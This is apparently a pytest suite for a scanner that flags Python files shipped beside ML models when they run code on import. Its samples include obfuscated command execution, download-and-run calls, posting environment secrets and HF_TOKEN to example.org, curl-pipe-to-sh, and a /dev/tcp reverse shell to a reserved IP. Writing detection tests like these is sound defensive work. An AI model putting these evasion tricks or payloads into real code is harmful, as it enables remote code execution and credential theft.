"""Python beside a model: what acts on import is hostile, ordinary modeling code is clean."""

# ruff: noqa: E501

import base64
import marshal
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seamark.core.findings import Finding
from seamark.core.verdicts import Verdict, worst
from seamark.scan.models.code.sources import examine_source
from seamark.scan.models.limits import Limits, Meter
from seamark.scan.models.router import route
from seamark.scan.models.scope import Scope, Tally


def examine(source: str | bytes) -> list[Finding]:
    data = source.encode() if isinstance(source, str) else source
    scope = Scope(path="modeling_x.py", meter=Meter(Limits()), tally=Tally(), route=route)
    return list(examine_source(data, scope))


def verdict(source: str | bytes) -> Verdict:
    return worst(finding.rule.verdict for finding in examine(source))


ENCODED = base64.b64encode(b"import os; os.system('echo seamark')").decode()
COMPILED = base64.b64encode(marshal.dumps(compile("print('seamark')", "x", "exec"))).decode()
SQUEEZED = zlib.compress(b"print('seamark')").hex()

HOSTILE = {
    "plain": "import os\nos.system('echo seamark')",
    "alias": "import os as o\no.system('echo seamark')",
    "from": "from subprocess import run as r\nr(['echo', 'seamark'])",
    "star": "from os import *\nsystem('echo seamark')",
    "variable": "import os\nf = os.system\nf('echo seamark')",
    "reverse chain": "import os\ndef go():\n    a('echo')\na = b\nb = c\nc = d\nd = os.system\ngo()",
    "cycle of names": "import os\na = b = c = None\na = b\nb = c\nc = a\nb = os.system\nc('echo')",
    "import call": "__import__('os').system('echo seamark')",
    "importlib": "import importlib\nimportlib.import_module('subprocess').getoutput('echo')",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('echo seamark')",
    "getattr join": "import os\ngetattr(os, ''.join(['s', 'y', 'stem']))('echo seamark')",
    "getattr reversed": "import os\ngetattr(os, 'metsys'[::-1])('echo seamark')",
    "getattr chr": "import os\ngetattr(os, ''.join(map(chr, [115,121,115,116,101,109])))('echo')",
    "getattr xor": "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114,120,114,117,100,108]))('echo')",
    "getattr unknown": "import os, sys\ngetattr(os, sys.argv[0])('echo seamark')",
    "added up": "import os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('echo seamark')",
    "rot13": "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('echo')",
    "dict": "import os\nos.__dict__['system']('echo seamark')",
    "vars": "import os\nvars(os)['system']('echo seamark')",
    "sys.modules": "import sys\nsys.modules['os'].system('echo seamark')",
    "builtins item": "__builtins__['eval']('1')",
    "builtins attribute": "import builtins\nbuiltins.exec('import os; os.system(1)')",
    "globals": "globals()['__builtins__'].eval('x')",
    "attrgetter": "import os, operator\noperator.attrgetter('system')(os)('echo')",
    "methodcaller": "import os, operator\noperator.methodcaller('system', 'echo')(os)",
    "partial": "import os, functools\nfunctools.partial(os.system, 'echo seamark')()",
    "re-export": "import logging\nlogging.os.system('echo seamark')",
    "list item": "import os\n[os.system][0]('echo seamark')",
    "dict item": "import os\nd = {'a': os.system}\nd['a']('echo seamark')",
    "lambda": "import os\n(lambda f: f('echo seamark'))(os.system)",
    "map": "import os\nlist(map(os.system, ['echo seamark']))",
    "atexit": "import atexit, os\natexit.register(os.system, 'echo seamark')",
    "thread": "import threading, subprocess\nthreading.Thread(target=subprocess.run, args=(['echo'],)).start()",
    "class body": "import os\nclass Model:\n    x = os.popen('echo seamark').read()",
    "default": "import os\ndef f(x=os.system('echo seamark')):\n    pass",
    "decorator": "import os\ndef d(c):\n    os.system('echo seamark')\n    return c\n@d\nclass Model:\n    pass",
    "called": "import os\ndef go():\n    os.system('echo seamark')\ngo()",
    "called twice removed": "import os\ndef a():\n    os.system('echo')\ndef b():\n    a()\nb()",
    "instance": "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('echo')\nA()",
    "metaclass": "import os\nclass M(type):\n    def __new__(m, *a):\n        os.system('echo')\nclass A(metaclass=M):\n    pass",
    "subclass hook": "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('echo')\nclass B(A):\n    pass",
    "context manager": "import os\nclass A:\n    def __enter__(self):\n        os.system('echo')\nwith A():\n    pass",
    "try": "try:\n    import os\n    os.system('echo seamark')\nexcept Exception:\n    pass",
    "constructor": "import os\nclass M:\n    def __init__(self, config):\n        os.system('echo seamark')",
    "from_pretrained": "import subprocess\nclass M:\n    @classmethod\n    def from_pretrained(cls):\n        subprocess.Popen('echo')",
    "exec text": "exec('import os; os.system(\"echo seamark\")')",
    "exec base64": f"import base64\nexec(base64.b64decode('{ENCODED}'))",
    "exec base64 in a function": f"import base64\ndef f():\n    c = base64.b64decode('{ENCODED}')\n    exec(c)",
    "exec zlib": f"import zlib\nexec(zlib.decompress(bytes.fromhex('{SQUEEZED}')))",
    "exec chr": "exec(''.join(chr(c) for c in data))",
    "exec compile": f"import base64 as b\nexec(compile(b.b64decode('{ENCODED}'), '', 'exec'))",
    "marshal": f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{COMPILED}')))",
    "function type": "import types\ntypes.FunctionType(code, {})()",
    "pickle literal": "import pickle\npickle.loads(b'cos\\nsystem\\n')",
    "download and run": "import requests\nexec(requests.get('https://example.org/x.py').text)",
    "download and run later": "from urllib.request import urlopen\ndef f():\n    exec(urlopen('https://e.org').read())",
    "socket": "import socket\ns = socket.socket()\ns.connect(('198.51.100.1', 4444))",
    "secrets out": "import os, requests\nrequests.post('https://example.org', data=dict(os.environ))",
    "token out": "import os, urllib.request as u\nt = os.environ['HF_TOKEN']\nu.urlopen('https://e.org/' + t)",
    "pipe to shell": "import os\ndef setup():\n    os.system('curl https://example.org | sh')",
    "reverse shell later": "import subprocess\ndef f():\n    subprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.1/1 0>&1'])",
    "hidden later": "import os\ndef f():\n    getattr(os, 'po' + 'pen')('echo')",
    "module getattr": "import os\ndef __getattr__(name):\n    os.system('echo seamark')",
    "pty": "import pty\npty.spawn('/bin/sh')",
    "posix": "import posix\nposix.system('echo seamark')",
    "asyncio": "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('echo'))",
    "runpy": "import runpy\nrunpy.run_path('weights.bin')",
    "pip": "import pip\npip.main(['install', 'x'])",
    "rmtree": "import shutil\nshutil.rmtree('/tmp/x')",
    "walrus": "import os\nif (f := os.system)('echo'):\n    pass",
    "comprehension": "import os\n[os.system(c) for c in ('echo',)]",
    "for alias": "import os\nfor f in [os.system]:\n    f('echo')",
    "member alias": "import os\nclass A: pass\nA.run = os.system\nA.run('echo')",
    "not main": "import os\nif __name__ != '__main__':\n    os.system('echo')",
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_code_that_acts_is_hostile(source: str) -> None:
    assert verdict(source) is Verdict.HOSTILE


REVIEW = {
    "process in a function": "import subprocess\ndef tool(x):\n    return subprocess.run([x])",
    "eval in a function": "def f(x):\n    return eval(x)",
    "eval in a constructor": "class A:\n    def __init__(self, c):\n        self.act = eval(c.act)",
    "fetch on import": "import requests\nfont = requests.get('https://example.org/a.ttf')",
    "write on import": "open('x.txt', 'w').write('x')",
    "native": "import ctypes\nlib = ctypes.CDLL('libx.so')",
    "kernel": "from torch.utils.cpp_extension import load\nk = load(name='k', sources=['k.cu'])",
    "fixed address": "import requests\ndef f(x):\n    return requests.get('https://example.org/' + x)",
    "upload": "import requests\ndef f(url, x):\n    requests.post(url, json=x)",
    "hub": "import torch\ndef f():\n    return torch.hub.load('org/repo', 'model')",
    "unpickle on import": "import pickle\nx = pickle.load(open('x.pkl', 'rb'))",
    "computed import": "import importlib, os\nimportlib.import_module(os.environ['PLUGIN'])",
    "sensitive": "KEY = '~/.ssh/id_rsa'",
    "harmless exec text": "exec('x = 1')",
}


@pytest.mark.parametrize("source", REVIEW.values(), ids=REVIEW)
def test_code_that_can_act_needs_review(source: str) -> None:
    assert verdict(source) is Verdict.REVIEW


UNCLEAR = {
    "syntax": "def f(:\n",
    "null": b"x = 1\0",
    "deep": "x = " + "-" * 100_000 + "1",
    "long": "x = 1" + "+1" * 100_000,
    "parentheses": "(" * 5000,
    "not text": b"\xff\xfe\xfa",
    "too large": b"#" * ((384 << 10) + 1),
    "too many parts": "a=b\n" * 60_000,
    "huge number": "x = " + "9" * 5000,
    "too many meanings": "import os\n"
    + "\n".join(f"v{i} = v{i + 1}" for i in range(1100))
    + "\nv1100 = os.system\n",
}


@pytest.mark.parametrize("source", UNCLEAR.values(), ids=UNCLEAR)
def test_what_cannot_be_read_is_unclear(source: str | bytes) -> None:
    assert verdict(source) in {Verdict.UNCLEAR, Verdict.HOSTILE}
    assert examine(source)


def test_exponential_folding_is_cut_short() -> None:
    lines = ["a0 = 'x'"]
    for i in range(1, 40):
        lines += [f"a{i} = a{i - 1} + a{i - 1}", f"a{i} = a{i - 1} + 'y' + a{i - 1}"]
    examine("import os\n" + "\n".join(lines) + "\ngetattr(os, a39)('echo')")


def test_odd_encodings_are_named() -> None:
    source = b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\nos.system('echo')"
    found = {finding.rule.id for finding in examine(source)}
    assert {"COD007", "COD001"} <= found


def test_finding_names_function_and_line() -> None:
    (found,) = examine("import os\n\nos.system('echo seamark')\n")
    assert (found.anchor, found.location.line) == ("os.system", 3)
    assert found.rule.id == "COD001"


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="abcxo s.()[]{}'\"=+-*:,\n\t#@0123456789\\", max_size=150))
def test_any_text_gets_a_verdict(text: str) -> None:
    examine("import os\n" + text)


@settings(max_examples=40, deadline=None)
@given(st.integers(1, 5), st.sampled_from(["'{}' + '{}'", "f'{}' f'{}'", "'%s%s' % ('{}', '{}')"]))
def test_any_split_of_a_name_is_hostile(at: int, glue: str) -> None:
    name = glue.format("system"[:at], "system"[at:])
    assert verdict(f"import os\ndef f():\n    getattr(os, {name})('echo')") is Verdict.HOSTILE


@pytest.mark.parametrize("sign", ["(", "-", "a.", "[0]", "+1"])
def test_one_line_of_very_many_tokens_is_not_parsed(sign: str) -> None:
    assert verdict("x = 1" + sign * (300_000 // len(sign))) is Verdict.UNCLEAR


def test_a_long_string_in_one_line_is_parsed() -> None:
    assert examine("DATA = '" + "ab+/" * 50_000 + "'\n") == []


@pytest.mark.parametrize("sign", ["(", "-", "not ", "lambda: "])
def test_deep_nesting_ends(sign: str) -> None:
    assert verdict("x = " + sign * 20_000 + "1") is Verdict.UNCLEAR


LATE = {
    "annotated argument": "import os\ndef f(x: os.system('echo seamark')): pass",
    "annotated variable": "import os\nx: os.system('echo seamark') = 1",
    "annotated field": "import os\nclass A:\n    x: os.system('echo seamark')",
    "returns": "import os\ndef f() -> os.system('echo seamark'): pass",
    "own TYPE_CHECKING": "import os\nTYPE_CHECKING = 1\nif TYPE_CHECKING:\n    os.system('echo x')",
    "written TYPE_CHECKING": "import os\nglobals()['TYPE_CHECKING'] = 1\nif TYPE_CHECKING:\n    os.system('x')",
    "imported TYPE_CHECKING": "import os\nfrom sys import path as TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')",
    "own __name__": "import os\n__name__ = '__main__'\nif __name__ == '__main__':\n    os.system('x')",
    "match": "import os\nmatch os:\n    case object(system=s): s('echo seamark')",
    "match or": "import os\nmatch [os]:\n    case [object(system=(1 | s))] | s: s('echo seamark')",
    "members": "import os\nfor k, v in vars(os).items():\n    if k[:4] == 'syst': v('echo seamark')",
    "members of a comprehension": "import os\n[v('echo') for v in os.__dict__.values()]",
}


@pytest.mark.parametrize("source", LATE.values(), ids=LATE)
def test_what_only_seems_not_to_run_at_import(source: str) -> None:
    assert verdict(source) is Verdict.HOSTILE


IDLE = {
    "postponed": "from __future__ import annotations\nimport os\ndef f(x: os.system('echo')): pass",
    "named types": "import subprocess\ndef f(p: subprocess.Popen | None) -> subprocess.Popen: pass",
    "guarded": "import os\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import x\n    x.f()",
    "off": "TYPE_CHECKING = False\nif TYPE_CHECKING:\n    import subprocess\n    subprocess.run(['x'])",
    "main": "import os\nif __name__ == '__main__':\n    os.system('echo seamark')",
    "own members": "class A:\n    pass\nfor k, v in vars(A).items():\n    print(k, v)",
    "a dictionary": "d = {'a': len}\nfor k, v in d.items():\n    v('x')",
}


@pytest.mark.parametrize("source", IDLE.values(), ids=IDLE)
def test_what_does_not_run_at_import_is_clean(source: str) -> None:
    assert examine(source) == []
